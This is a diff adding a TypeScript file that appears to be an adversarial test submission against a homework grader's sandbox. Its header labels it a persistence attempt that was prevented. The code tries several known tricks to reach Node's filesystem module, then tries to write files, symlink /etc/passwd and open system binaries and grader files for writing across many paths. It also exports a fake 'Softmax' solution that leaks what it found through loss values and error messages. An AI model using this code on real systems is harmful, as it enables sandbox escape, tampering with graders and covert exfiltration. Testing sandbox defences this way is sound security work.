@@ -1,0 +1,103 @@
+/*
+goal: leaves files in the home folder, in the repository, beside other submissions and where programs start by themselves
+class: persist
+threats: [A3, A14, A21]
+deserves: all
+outcome: prevented
+because: none of these folders is in the sandbox, and what is there is read-only
+*/
+import { Softmax as Honest } from './honest.ts';
+import { target } from './target.ts';
+
+const g = globalThis as any;
+
+/** A module of Node's, in whatever way it can still be had. */
+function builtin(name: string): any {
+  const ways = [
+    () => g.process.getBuiltinModule(`node:${name}`),
+    () => g.process.mainModule.require(name),
+    () => g.process.mainModule.constructor._load(name),
+    () => [].constructor.constructor('name', 'return process.getBuiltinModule(name)')(name),
+    () => g.process.binding(name),
+  ];
+  for (const way of ways) {
+    try {
+      const found = way();
+      if (found) return found;
+    } catch {
+      // the next way
+    }
+  }
+  return null;
+}
+
+const loot: string[] = [];
+
+function tell(what: string, found: unknown): void {
+  let text: string;
+  try {
+    text = typeof found === 'string' ? found : JSON.stringify(found);
+  } catch {
+    text = String(found);
+  }
+  loot.push(`${what}: ${text}`);
+  console.log(`${what}: ${text}`);
+}
+
+function attempt(what: string, way: () => unknown): unknown {
+  try {
+    const found = way();
+    if (found !== undefined) tell(what, found);
+    return found;
+  } catch (error) {
+    tell(what, `no: ${(error as Error)?.message}`);
+    return undefined;
+  }
+}
+
+function act(where: string): void {
+  if (where !== 'import') return;
+  const fs = builtin('fs');
+  const folders = [
+    target.home, target.repository, `${target.repository}/dist`, `${target.repository}/specs/c147`, `${target.repository}/node_modules`,
+    `${target.repository}/node_modules/numpy-ts`, target.sibling, target.temporary, '/etc', '/usr/local/bin', '/usr/lib', '/opt', '/var/tmp', '/root', '/home',
+    '/dev/shm', '/dev', '/run', '/proc', '/sys/fs/cgroup', '/', '..', '../..', '/proc/1/root/tmp', `/proc/${g.process.ppid}/cwd`,
+  ];
+  for (const folder of folders) {
+    attempt(`file in ${folder}`, () => {
+      fs.writeFileSync(`${folder}/${target.wasHere}`, 'was here');
+      return 'written';
+    });
+    attempt(`folder in ${folder}`, () => fs.mkdirSync(`${folder}/${target.wasHere}.d`) ?? 'made');
+    attempt(`link in ${folder}`, () => fs.symlinkSync('/etc/passwd', `${folder}/${target.wasHere}.l`) ?? 'linked');
+    attempt(`rename into ${folder}`, () => {
+      fs.writeFileSync('/tmp/x', 'was here');
+      return fs.renameSync('/tmp/x', `${folder}/${target.wasHere}`) ?? 'renamed';
+    });
+  }
+  // What is there is only opened for writing, which shows as much.
+  const files = [
+    `${target.repository}/dist/cli.cjs`, `${target.repository}/dist/runner.cjs`, `${target.repository}/specs/c147/hw2.yaml`,
+    `${target.sibling}/softmax.ts`, '/usr/bin/env', '/etc/passwd', g.process.execPath, g.process.argv[1] ?? '', '/proc/sys/kernel/core_pattern',
+  ];
+  for (const file of files) attempt(`open ${file}`, () => fs.closeSync(fs.openSync(file, 'r+')) ?? 'may be written');
+  attempt('times', () => fs.utimesSync(target.repository, 0, 0) ?? 'changed');
+  attempt('mode', () => fs.chmodSync(`${target.sibling}/softmax.ts`, 0o644) ?? 'changed');
+}
+
+act('import');
+
+/** Right answers where there are points; what was found goes out where there are none. */
+export class Softmax extends Honest {
+  override loss(X: any, y: any): any {
+    act('loss');
+    const loss = super.loss(X, y);
+    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
+  }
+
+  override train(X: any, y: any, options: any = {}): any {
+    act('train');
+    if (options.learningRate === 0) throw new Error(loot.join('\n'));
+    return super.train(X, y, options);
+  }
+}
